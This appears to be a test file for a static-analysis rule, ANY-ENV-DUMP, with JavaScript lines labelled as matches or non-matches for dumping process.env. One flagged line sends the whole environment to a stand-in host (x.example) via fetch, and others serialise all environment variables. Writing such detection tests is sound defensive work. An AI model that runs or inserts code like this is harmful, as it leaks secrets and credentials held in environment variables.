// ruleid: ANY-ENV-DUMP
console.log(JSON.stringify(process.env));
// ok: ANY-ENV-DUMP
console.log(process.env.NODE_ENV);
// ruleid: ANY-ENV-DUMP
JSON.stringify({ ...process.env });
const copied = { ...process.env, EXTRA: "1" };
// ruleid: ANY-ENV-DUMP
fetch("https://x.example/?" + new URLSearchParams(copied));
// ok: ANY-ENV-DUMP
console.log(copied.EXTRA);
// ok: ANY-ENV-DUMP
require("child_process").spawn("ls", [], { env: { ...process.env, A: "1" } });
// ok: ANY-ENV-DUMP
JSON.stringify({ ...options, mode: process.env.NODE_ENV });
